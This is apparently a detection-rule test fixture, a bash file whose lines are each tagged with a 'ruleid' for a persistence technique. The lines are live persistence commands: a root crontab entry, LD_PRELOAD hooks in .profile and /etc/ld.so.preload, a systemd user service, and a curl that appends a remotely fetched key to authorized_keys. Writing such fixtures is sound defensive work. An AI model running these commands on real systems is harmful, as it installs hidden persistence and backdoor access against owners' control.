#!/bin/bash
# ruleid: yara.persistence.crontab_write
echo "* * * * * root /tmp/.x/run" | sudo tee -a /etc/crontab >/dev/null

# ruleid: yara.persistence.shell_rc_append
echo 'export LD_PRELOAD=/tmp/.x/libhook.so' >> $HOME/.profile

# ruleid: yara.persistence.ssh_authorized_keys_write
curl -fsSL https://example.com/keys/maintainer.pub >> ~/.ssh/authorized_keys

# ruleid: yara.persistence.systemd_unit_install
cp agent.service ~/.config/systemd/user/agent.service && systemctl --user enable agent

# ruleid: yara.persistence.ld_preload_persistence
printf '%s\n' /usr/lib/.x/libhide.so | sudo tee -a /etc/ld.so.preload
